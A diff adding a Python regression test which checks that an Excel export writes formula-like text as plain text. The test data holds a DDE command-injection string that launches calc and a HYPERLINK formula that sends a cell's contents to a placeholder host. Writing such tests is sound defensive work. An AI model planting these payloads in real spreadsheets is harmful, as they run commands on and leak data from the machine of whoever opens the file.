@@ -108,6 +108,31 @@ def test_excel_writes_one_workbook_with_a_sheet_per_level(db, tmp_path):
     assert len(sheets["ratings"]) == 10
 
 
+def test_excel_writes_text_that_looks_like_a_formula_as_text(tmp_path):
+    """The newcomer's N3: openpyxl stores a str starting with "=" as a formula, so a
+    rater's name or a model's output like `=cmd|'/c calc'!A1` ran when the workbook
+    was opened. Every cell of an export is data: text stays text, as stored."""
+    from openpyxl import load_workbook
+
+    db = build_review_db(f"sqlite:///{tmp_path / 'f.db'}", n_cases=2)
+    output = '=HYPERLINK("http://x/?"&A1,"click")'
+    rater = "=cmd|'/c calc'!A1"
+    with Session(db.engine) as session:
+        gens = generations_frame(session, db.experiment_id)
+        first = gens[gens.case_id == "c00"].id.tolist()
+        session.get(Generation, first[0]).output = output
+        (pair,) = save_pairs(session, db.experiment_id, [("toy-qa/c00", first[0], first[1])])
+        stars = {"A": dict.fromkeys(CRITERIA, 4), "B": dict.fromkeys(CRITERIA, 2)}
+        record_pair_rating(session, pair.id, rater=rater, stars=stars, preference="A")
+        session.commit()
+    (path,) = _export(db, tmp_path / "out", "excel", levels=["generations", "ratings"])
+    workbook = load_workbook(path)
+    cells = [c for sheet in workbook for row in sheet.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    texts = {c.value for c in cells}
+    assert output in texts and rater in texts
+
+
 def test_unknown_formats_and_levels_are_refused(db, tmp_path):
     with pytest.raises(EvalError, match="format"):
         _export(db, tmp_path, "xml")
